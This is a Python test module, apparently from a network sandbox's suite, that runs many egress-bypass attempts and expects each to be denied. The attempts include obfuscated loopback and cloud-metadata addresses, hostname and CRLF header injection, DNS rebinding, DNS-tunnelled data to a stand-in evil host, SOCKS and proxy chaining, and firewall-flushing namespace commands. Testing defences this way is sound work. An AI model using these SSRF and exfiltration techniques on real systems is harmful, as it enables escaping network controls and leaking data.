"""E2: the way out is talked into another host: by spelling, by what a name leads to, by port, through DNS."""

import dataclasses
from collections.abc import Callable

from tests.attacks.arena import Arena, Ran
from tests.attacks.attack import Attack, Evidence, cases
from tests.attacks.crossing import EVIL, GOOD, arrives, crossing, entries, flows
from tests.integration.lab import world

LOOPBACK = ("127.0.0.1", 8080)
ANY_PORT = 'allow = ["www.public.example.net:80,443,8080"]'
RAW_SOCKETS = "raw sockets need a capability that an ordinary user's lab does not give"


def spelling(name: str, text: str, host: str = EVIL, port: int = 80, *, code: str = "bad-request") -> Attack:
    """`text` is not allowed, and somebody might take it for `host`."""
    return crossing(name, f"spelled({text!r}, {host!r}, {port})", code=code, rules=ANY_PORT)


def host_by(name: str, text: str, *, code: str = "bad-request") -> Attack:
    """A way to write an address of the host, where a service listens."""
    return spelling(name, text, *LOOPBACK, code=code)


DENIED = "egress-denied"


@cases(
    host_by("loopback", "127.0.0.1", code=DENIED),
    host_by("loopback-by-name", "localhost", code=DENIED),
    host_by("decimal", "2130706433"),
    host_by("octal", "0177.0.0.1"),
    host_by("octal-whole", "017700000001"),
    host_by("hexadecimal", "0x7f000001"),
    host_by("hexadecimal-parts", "0x7f.0.0x0.1"),
    host_by("short", "127.1"),
    host_by("leading-zeros", "127.000.000.001"),
    host_by("zero", "0"),
    host_by("unspecified", "0.0.0.0", code=DENIED),
    host_by("overflowing", "127.0.0.257"),
    host_by("dot-at-the-end", "127.0.0.1."),
    host_by("mapped", "[::ffff:127.0.0.1]", code=DENIED),
    host_by("mapped-hexadecimal", "[::ffff:7f00:1]", code=DENIED),
    host_by("loopback-6", "[::1]", code=DENIED),
    host_by("loopback-6-long", "[0:0:0:0:0:0:0:1]", code=DENIED),
    host_by("unspecified-6", "[::]", code=DENIED),
    host_by("scope", "[::1%lo]"),
    host_by("scope-encoded", "[::1%25lo]"),
    host_by("no-brackets", "::1"),
    host_by("full-width-digits", "\uff11\uff12\uff17.0.0.1"),
    host_by("circled-digits", "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460"),
    host_by("ideographic-stops", "127\u30020\u30020\u30021"),
    host_by("own-address", world.HOST, code=DENIED),
    host_by("own-name", "self.example.com", code=DENIED),
    spelling("host-loopback-unasked", "host-loopback", "127.0.0.1", 8080, code=DENIED),
    spelling("private-address", world.LAN, world.LAN, code=DENIED),
    spelling("metadata", world.METADATA, world.METADATA, code=DENIED),
    spelling("metadata-decimal", "2852039166", world.METADATA),
    spelling("metadata-hexadecimal", "0xa9fea9fe", world.METADATA),
    spelling("metadata-6", "[fd00:ec2::254]", "fd00:ec2::254", code=DENIED),
    spelling("nat64", "[64:ff9b::7f00:1]", "64:ff9b::7f00:1", code=DENIED),
    spelling("6to4", "[2002:7f00:1::1]", "2002:7f00:1::1", code=DENIED),
    spelling("teredo", "[2001:0:7f00:1::1]", "2001:0:7f00:1::1", code=DENIED),
    spelling("public-address", world.PUBLIC, world.PUBLIC, code=DENIED),
    spelling("public-address-6", f"[{world.PUBLIC6}]", world.PUBLIC6, code=DENIED),
    spelling("synthetic-address", "198.18.0.9", "198.18.0.9", code=DENIED),
)
def test_addresses(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)


@cases(
    spelling("another-name", EVIL, code=DENIED),
    spelling("capitals", "GIT.Example.COM", code=DENIED),
    spelling("final-dot", "git.example.com.", code=DENIED),
    spelling("two-final-dots", "git.example.com.."),
    spelling("leading-dot", ".git.example.com"),
    spelling("parent", "public.example.net", "public.example.net", code=DENIED),
    spelling("child", f"x.{GOOD}", f"x.{GOOD}", code=DENIED),
    spelling("longer-at-the-front", f"evil-{GOOD}", f"evil-{GOOD}", code=DENIED),
    spelling("longer-at-the-back", f"{GOOD}.public.example.net", f"{GOOD}.public.example.net", code=DENIED),
    spelling("user-information", f"{GOOD}@{EVIL}"),
    spelling("user-and-password", f"{GOOD}:80@{EVIL}"),
    spelling("user-behind", f"{EVIL}@{GOOD}"),
    spelling("nul", f"{EVIL}\0.{GOOD}"),
    spelling("nul-encoded", f"{EVIL}%00.{GOOD}"),
    spelling("dot-encoded", "git%2eexample.com"),
    spelling("letter-encoded", "%67it.example.com"),
    spelling("backslash", f"{EVIL}\\.{GOOD}"),
    spelling("backslash-user", f"{EVIL}\\@{GOOD}"),
    spelling("fragment", f"{EVIL}#.{GOOD}"),
    spelling("query", f"{EVIL}?.{GOOD}"),
    spelling("path", f"{EVIL}/.{GOOD}"),
    spelling("space", f"{EVIL} {GOOD}"),
    spelling("tab", f"{EVIL}\t{GOOD}"),
    spelling("comma", f"{GOOD},{EVIL}"),
    spelling("line-break", f"{GOOD}\r\nHost: {EVIL}"),
    spelling("bare-line-feed", f"{GOOD}\nHost: {EVIL}"),
    spelling("second-port", f"{EVIL}:80:{GOOD}"),
    spelling("full-width", "\uff47\uff49\uff54.example.com"),
    spelling("full-width-stop", "git\uff0eexample.com"),
    spelling("soft-hyphen", "gi\u00adt.example.com"),
    spelling("invisible-joiner", "gi\u200bt.example.com"),
    spelling("capital-of-another-script", "g\u0130t.example.com".lower()),
    spelling("wildcard", "*.public.example.net", "x.public.example.net"),
    spelling("empty", ""),
)
def test_names(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)


# Outside, a connection to these begins nowhere; they are tried all the same, under policy's tests and the lab's.
UNREACHABLE = ("unspecified-6", "this-network", "broadcast", "multicast", "multicast-6", "link-local-6", "compatible")


def leads_to(name: str, host: str, *, times: int = 1) -> Attack:
    """A name that policy allows, and that leads, at least now and then, to where no name may."""
    body = f"""
for number in range({times}):
    for port in (80, 8080):
        for way in ways({host!r}, port):
            attempt(lambda: get(way(), f"{host}:{{port}}", "/" + str(number)))
"""
    rules = f'allow = ["{host}:80,8080"]'
    evidence = arrives(host) if times > 1 else flows_of_special(host)
    return crossing(name, body, rules=rules, evidence=evidence, code="address-denied")


def loopback_next(arena: Arena) -> None:
    """Have the next question about the name that changes its address answered with the host's loopback."""
    assert arena.lab is not None
    answer = ""
    while world.PUBLIC not in answer:
        answer = arena.lab.run(["getent", "ahostsv4", "alternate.example.com"]).stdout


def flows_of_special(host: str) -> Evidence:
    """Evidence that anything but the question about the name got out."""

    def look(arena: Arena, ran: Ran) -> bool:
        asked = {(world.REMOTE, 53)}
        found = [entry for entry in entries(arena) if entry["kind"] != "dns"]
        return any((entry.get("address"), entry.get("port")) not in asked for entry in found)

    return look


@cases(
    *(leads_to(f"special-{name}", f"special-{name}.example.com") for name in world.SPECIAL if name not in UNREACHABLE),
    dataclasses.replace(leads_to("rebinding", "alternate.example.com", times=3), prepare=loopback_next),
    leads_to("alias-of-loopback", "alias-loopback.example.com"),
    leads_to("own-address", "self.example.com"),
    leads_to("metadata", "meta.example.com"),
)
def test_what_names_lead_to(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)


QUERY = """
def resolver():
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))

def query(name, kind, more=b""):
    labels = b"".join(bytes((len(label),)) + label for label in name.encode().split(b"."))
    head = struct.pack(">6H", 7, 0x100, 1, 0, 0, 1 if more else 0)
    return head + labels + b"\\0" + struct.pack(">HH", kind, 1) + more

def udp(server, data, port=53):
    link = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(QUIET)
    link.sendto(data, (server, port))
    return link.recv(999)

def tcp(server, data):
    link = direct(server, 53)
    link.settimeout(QUIET)
    link.sendall(len(data).to_bytes(2, "big") + data)
    return link.recv(999)
"""


def asks(name: str, step: str, *, code: str = DENIED) -> Attack:
    """A question that carries the mark, or goes to another resolver."""
    return crossing(name, f"{QUERY}attempt(lambda: {step})", code=code)


@cases(
    *(
        asks(f"dns-{kind}", f'udp(resolver(), query(MARK + ".example.com", {number}))')
        for kind, number in {"A": 1, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "HTTPS": 65, "ANY": 255}.items()
    ),
    asks("dns-below-the-allowed", 'udp(resolver(), query(MARK + "." + GOOD, 1))'),
    asks("dns-long-labels", 'udp(resolver(), query(".".join((MARK, "a" * 63, "b" * 63, "c" * 63, "x")), 16))'),
    asks("dns-by-tcp", 'tcp(resolver(), query(MARK + ".example.com", 16))'),
    asks("dns-by-the-library", 'direct(MARK + ".example.com", 80)'),
    asks("dns-another-resolver", f'udp("{world.REMOTE}", query(MARK + ".example.com", 1))'),
    asks("dns-another-resolver-by-tcp", f'tcp("{world.REMOTE}", query(MARK + ".example.com", 1))'),
    asks("dns-through-the-proxy", 'connect((MARK + ".example.com:443").encode(), MARK + ".example.com", 443)'),
    asks("dns-through-socks", 'socks(3, named((MARK + ".example.com").encode()), MARK + ".example.com", 443)'),
)
def test_names_as_a_channel(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)


def packet(name: str, step: str, *, code: str = DENIED, refused: str = "") -> Attack:
    """Something that is no TCP connection to an allowed port."""
    return crossing(name, f"{QUERY}attempt(lambda: {step})", code=code, evidence=flows, refused=refused)


ECHO = "struct.pack('>BBHHH', 8, 0, 0xf7ff, 0, 0)"


@cases(
    packet("resolver-of-somebody", 'udp("8.8.8.8", query("example.com", 1))'),
    packet("resolver-of-somebody-6", 'udp("2001:4860:4860::8888", query("example.com", 1))'),
    packet("multicast-names", 'udp("11.22.33.44", query("example.local", 1), 5353)'),
    packet("quic", "udp(PUBLIC, b'x' * 1200, 443)"),
    packet("time-service", "udp(PUBLIC, bytes(48), 123)"),
    packet("log-service", f"udp('{world.REMOTE}', b'x', 514)"),
    packet(
        "connected-datagrams", "(s := socket.socket(type=socket.SOCK_DGRAM)).connect((PUBLIC, 443)) or s.send(b'x')"
    ),
    packet(
        "raw-packet",
        f"socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto({ECHO}, (PUBLIC, 0))",
        code="socket-type",
        refused=RAW_SOCKETS,
    ),
    packet(
        "own-headers",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(bytes((69,)) + bytes(19), (PUBLIC, 0))",
        code="socket-type",
        refused=RAW_SOCKETS,
    ),
    packet("sctp-in-udp", "udp(PUBLIC, b'x' * 20, 9899)"),
    packet(
        "light-udp",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b'x', (PUBLIC, 443))",
        code="socket-protocol",
    ),
    packet("fast-open", "socket.socket().sendto(b'x', socket.MSG_FASTOPEN, (PUBLIC, 80))"),
)
def test_packets(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)


def by_port(name: str, port: int, *, host: str = GOOD, code: str = DENIED) -> Attack:
    """A port that no rule names, each way."""
    return crossing(name, f"for way in ways({host!r}, {port}): attempt(lambda: get(way(), GOOD))", code=code)


def raw(name: str, port: int, data: str, *, rules: str = "", code: str = DENIED) -> Attack:
    """Bytes that are neither HTTP nor TLS; outside a flow to the host is enough."""
    body = f"for way in ways(GOOD, {port}): attempt(lambda: tell(way(), {data}))"
    return crossing(name, body, rules=rules, evidence=flows, code=code)


def chained(name: str, body: str, *, code: str = DENIED) -> Attack:
    """The proxy is used to reach itself, or what it alone can reach."""
    return crossing(name, body, code=code, rules='allow = ["www.public.example.net:80,443,3128,8080"]')


SOCKS = "socks(1, socket.inet_aton({0!r}), {0!r}, {1})"


@cases(
    by_port("another-http-port", 8080),
    by_port("ssh-port", 22),
    by_port("high-port", 9000),
    raw("port-of-dns", 53, "b'\\0\\2xx'"),
    raw("ssh-on-443", 443, "b'SSH-2.0-OpenSSH_9.2\\r\\n'"),
    raw("ssh-on-80", 80, "b'SSH-2.0-OpenSSH_9.2\\r\\n'"),
    raw("raw-bytes-on-443", 443, "bytes(range(64))"),
    raw(
        "smtp-on-allowed-port",
        9000,
        "b'EHLO here\\r\\n\\r\\n'",
        code="bad-request",
        rules='allow = ["www.public.example.net:9000"]',
    ),
    raw("socks-to-the-other-side", 80, "b'\\5\\1\\0'"),
    raw("nothing-but-a-connection", 9000, "b''", rules='allow = ["www.public.example.net:443"]'),
    chained(
        "proxy-to-itself",
        """
link = connect(b"127.0.0.1:3128", EVIL, 80)
attempt(lambda: tell(link, b"CONNECT " + EVIL.encode() + b":80 HTTP/1.1\\r\\n\\r\\n") if INSIDE else get(link, EVIL))
""",
    ),
    chained(
        "proxy-within-a-tunnel",
        """
for step in (b"CONNECT git.example.com:80 HTTP/1.1\\r\\nHost: git.example.com:80\\r\\n\\r\\n",
             b"GET http://git.example.com/ HTTP/1.1\\r\\nHost: git.example.com\\r\\n\\r\\n"):
    attempt(lambda: tell(connect(GOOD.encode() + b":80", EVIL, 80), step if INSIDE else step[-2:] + b""))
if not INSIDE: get(direct(EVIL, 80), EVIL)
""",
        code="bad-request",
    ),
    chained("proxy-by-its-resolver", "attempt(lambda: get(connect(b'198.18.0.2:53', '127.0.0.1', 8080), 'x'))"),
    chained("proxy-by-synthetic", "attempt(lambda: get(connect(b'198.18.0.1:3128', '127.0.0.1', 8080), 'x'))"),
    chained("host-by-connect", "attempt(lambda: tell(connect(b'127.0.0.1:5432', '127.0.0.1', 5432), 'x'))"),
    chained("host-by-socks-address", f"attempt(lambda: get({SOCKS.format('127.0.0.1', 8080)}, 'x'))"),
    chained("lan-by-socks-address", f"attempt(lambda: get({SOCKS.format(world.LAN, 80)}, 'x'))"),
    chained(
        "host-by-socks-mapped",
        "attempt(lambda: get(socks(4, socket.inet_pton(10, '::ffff:127.0.0.1'), '127.0.0.1', 8080), 'x'))",
    ),
    chained(
        "socks-bind", "attempt(lambda: get(socks(3, named(GOOD.encode()), EVIL, 80, 2), EVIL))", code="bad-request"
    ),
    chained("socks-udp", "attempt(lambda: get(socks(3, named(GOOD.encode()), EVIL, 80, 3), EVIL))", code="bad-request"),
    chained(
        "socks-4",
        """
link = proxy(EVIL, 80)
if INSIDE: attempt(lambda: tell(link, b"\\4\\1\\0\\x50" + socket.inet_aton(PUBLIC) + b"me\\0"))
attempt(lambda: get(link, EVIL))
""",
        code="bad-request",
    ),
    chained(
        "socks-4-name",
        """
link = proxy(EVIL, 80)
if INSIDE: attempt(lambda: tell(link, b"\\4\\1\\0\\x50\\0\\0\\0\\1me\\0" + EVIL.encode() + b"\\0"))
attempt(lambda: get(link, EVIL))
""",
        code="bad-request",
    ),
    chained("captured-loopback", "attempt(lambda: get(direct('127.0.0.1', 8080), 'x'))"),
    chained("captured-loopback-other", "attempt(lambda: get(direct('127.0.0.2', 8080), '127.0.0.2:8080'))"),
    chained(
        "captured-synthetic",
        "place = '198.18.77.7' if INSIDE else EVIL; attempt(lambda: get(direct(place, 80), place))",
    ),
    chained(
        "captured-first-synthetic",
        "place = '198.18.0.1' if INSIDE else EVIL; attempt(lambda: get(direct(place, 80), place))",
    ),
)
def test_ports_and_chains(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)


SETTLED = """
import subprocess
for words in ("ip addr add 10.9.8.7/8 dev lo", "ip route add local default dev lo", "ip link set lo down",
              "ip route add default via 198.18.0.1", "nft flush ruleset", "unshare -Urn ip link set lo up",
              "unshare -Ur ip route add local default dev lo", "nsenter -t 1 -n -U ip route add local default dev lo"):
    attempt(lambda: subprocess.run(words.split(), capture_output=True, text=True).stderr if INSIDE else None)
"""


@cases(
    crossing("settings-of-the-network", f"{SETTLED}attempt(lambda: get(direct('10.9.8.7', 80), 'x'))", code=DENIED),
    crossing(
        "settings-then-an-open-port",
        f"{SETTLED}attempt(lambda: tell(direct('{world.REMOTE}', 9000), b'x'))",
        code=DENIED,
    ),
    crossing(
        "resolver-taken-over",
        """
link = socket.socket(type=socket.SOCK_DGRAM)
for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
    link.setsockopt(socket.SOL_SOCKET, option, 1)
for place in ("198.18.0.2", "0.0.0.0"):
    attempt(lambda: link.bind((place, 53)) if INSIDE else None)
attempt(lambda: get(direct(EVIL, 80), EVIL))
""",
        code=DENIED,
    ),
)
def test_the_network_namespace(attack: Attack, carry_out_in_lab: Callable[[Attack], None]) -> None:
    carry_out_in_lab(attack)
